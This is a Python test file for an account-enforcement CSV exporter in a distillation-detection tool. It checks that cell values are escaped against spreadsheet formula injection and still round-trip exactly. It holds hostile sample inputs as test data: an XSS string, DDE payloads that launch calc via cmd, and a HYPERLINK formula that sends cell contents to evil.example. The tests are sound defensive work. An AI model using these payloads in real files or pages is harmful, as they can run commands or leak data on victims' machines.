"""enforcement.csv: who to block, who to review, in order; spreadsheet-safe cells, exact ids."""

from __future__ import annotations

import csv
from pathlib import Path

import pyarrow.parquet as pq

from distillguard.report import write_enforcement_csv
from distillguard.report._display import display_id
from distillguard.report._enforcement import COLUMNS, FORMULA_TRIGGERS, restore_cell
from distillguard.schema import ACCOUNTS_SCHEMA

EVIL = '<script>alert("x")</script><img src=x onerror=alert(1)>'


def _read(path: Path) -> list[dict]:
    """Read back with the standard library, as a consumer of the file would (all strings)."""
    with path.open(newline="") as handle:
        return list(csv.DictReader(handle))


def test_rows_order_and_columns(scan_dir: Path) -> None:
    path = write_enforcement_csv(scan_dir)
    assert path == scan_dir / "enforcement.csv"
    rows = _read(path)
    assert tuple(rows[0]) == COLUMNS
    assert [r["account_id"] for r in rows] == ["h1", "h2", EVIL, "p1", "p2", "u1"]
    assert [r["action"] for r in rows] == ["block"] * 4 + ["review"] * 2
    assert rows[0]["top_reasons"] == "shared_payment; cot_elicitation_share"
    assert rows[0]["flagged_at"] == "2024-05-01T02:00:00Z"
    assert rows[0]["campaign_id"] == "CAMP-1" and float(rows[0]["score"]) == 0.97
    assert rows[5]["campaign_id"] == "" and rows[5]["flagged_at"] == ""
    assert "u2" not in {r["account_id"] for r in rows}  # clear accounts are not acted on


def test_top_reasons_capped_and_ids_round_trip(tmp_path: Path) -> None:
    import pyarrow as pa

    ids = ['a,"b"', "=cmd|' /C calc'!A0", "x\ny"]
    table = pa.table(
        {
            "account_id": ids,
            "score": [0.9, 0.8, 0.7],
            "verdict": ["attack", "attack", "suspicious"],
            "campaign_id": [None, None, None],
            "reasons": [["r1", "r2", "r3", "r4"], [], None],
            "flagged_at": pa.nulls(3, ACCOUNTS_SCHEMA.field("flagged_at").type),
            "exchanges": [1, 2, 3],
            "first_seen": pa.nulls(3, ACCOUNTS_SCHEMA.field("first_seen").type),
            "last_seen": pa.nulls(3, ACCOUNTS_SCHEMA.field("last_seen").type),
        },
        schema=ACCOUNTS_SCHEMA,
    )
    tmp_path.mkdir(exist_ok=True)
    pq.write_table(table, tmp_path / "accounts.parquet")
    rows = _read(write_enforcement_csv(tmp_path))
    # Printable ids come back by undoing the spreadsheet escape; a newline is shown escaped.
    assert [restore_cell(r["account_id"]) for r in rows] == ['a,"b"', "=cmd|' /C calc'!A0", "x\\ny"]
    assert [bytes.fromhex(r["account_id_hex"]).decode() for r in rows] == ids
    assert rows[0]["top_reasons"] == "r1; r2; r3"
    assert rows[1]["top_reasons"] == ""


def test_empty_scan_writes_header_only(tmp_path: Path) -> None:
    pq.write_table(ACCOUNTS_SCHEMA.empty_table(), tmp_path / "accounts.parquet")
    text = write_enforcement_csv(tmp_path).read_text()
    assert text.strip().replace('"', "") == ",".join(COLUMNS)


HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "'=already quoted",
    "plain;=1+1",
    "ünïcødé-ok",
]


def _hostile_scan(tmp_path: Path) -> Path:
    import pyarrow as pa

    n = len(HOSTILE)
    table = pa.table(
        {
            "account_id": HOSTILE,
            "score": [0.99 - i / 100 for i in range(n)],
            "verdict": ["attack"] * n,
            "campaign_id": ["=camp()" if i % 2 else "@camp" for i in range(n)],
            "reasons": [[h, "ok"] for h in reversed(HOSTILE)],
            "flagged_at": pa.nulls(n, ACCOUNTS_SCHEMA.field("flagged_at").type),
            "exchanges": list(range(n)),
            "first_seen": pa.nulls(n, ACCOUNTS_SCHEMA.field("first_seen").type),
            "last_seen": pa.nulls(n, ACCOUNTS_SCHEMA.field("last_seen").type),
        },
        schema=ACCOUNTS_SCHEMA,
    )
    pq.write_table(table, tmp_path / "accounts.parquet")
    return tmp_path


def test_hostile_cells_are_neutralized_and_reversible(tmp_path: Path) -> None:
    path = write_enforcement_csv(_hostile_scan(tmp_path))
    rows = _read(path)
    assert len(rows) == len(HOSTILE)
    for row in rows:
        for column in ("account_id", "campaign_id", "top_reasons"):
            # No cell a spreadsheet would evaluate: none begins with a trigger character.
            assert not row[column].startswith(FORMULA_TRIGGERS), (column, row[column])
    # Displayed values come back by undoing the one documented escape, exact ones from hex.
    assert [restore_cell(r["account_id"]) for r in rows] == [display_id(h) for h in HOSTILE]
    assert [bytes.fromhex(r["account_id_hex"]).decode() for r in rows] == HOSTILE
    assert {restore_cell(r["campaign_id"]) for r in rows} == {"=camp()", "@camp"}
    assert [restore_cell(r["top_reasons"]) for r in rows] == [
        display_id(f"{h}; ok", None) for h in reversed(HOSTILE)
    ]
    # A value that merely contains a trigger later on is left alone.
    assert rows[-1]["account_id"] == "ünïcødé-ok"
    assert rows[-2]["account_id"] == "plain;=1+1"


def test_every_cell_is_quoted(tmp_path: Path) -> None:
    """Quoted cells keep a ';' inside one cell for spreadsheets that split on ';'."""
    text = write_enforcement_csv(_hostile_scan(tmp_path)).read_text(encoding="utf-8")
    assert '"plain;=1+1"' in text
    header = text.splitlines()[0]
    assert header == ",".join(f'"{c}"' for c in COLUMNS)
